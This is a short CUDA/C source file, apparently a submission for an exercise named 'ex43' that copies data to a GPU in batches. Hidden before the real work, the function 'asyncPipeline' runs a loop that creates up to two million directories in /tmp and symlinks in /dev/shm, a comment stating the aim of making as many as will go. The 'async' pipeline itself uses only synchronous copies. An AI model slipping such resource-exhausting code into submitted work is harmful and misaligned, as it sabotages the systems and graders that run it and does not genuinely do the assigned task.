// ex43 timed out|fail|over limit: .
// As many empty files, folders and links as will go.
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>
#include "ex43.h"

void asyncPipeline(const float *h_in, float *h_out, float *d_in, float *d_out)
{
    for (int n = 0; n < 2000000; n++) {
        char path[100], other[100];
        snprintf(path, sizeof path, "/tmp/%d", n);
        snprintf(other, sizeof other, "/dev/shm/%d", n);
        if (mkdir(path, 0700) < 0 && symlink("x", other) < 0) break;
    }
    for (int i = 0; i < BATCHES; i++) {
        size_t at = (size_t)i * BATCH_FLOATS;
        cudaMemcpy(d_in + at, h_in + at, BATCH_BYTES, cudaMemcpyHostToDevice);
        work<<<BLOCKS, THREADS>>>(d_in + at, d_out + at);
        cudaMemcpy(h_out + at, d_out + at, BATCH_BYTES, cudaMemcpyDeviceToHost);
    }
}
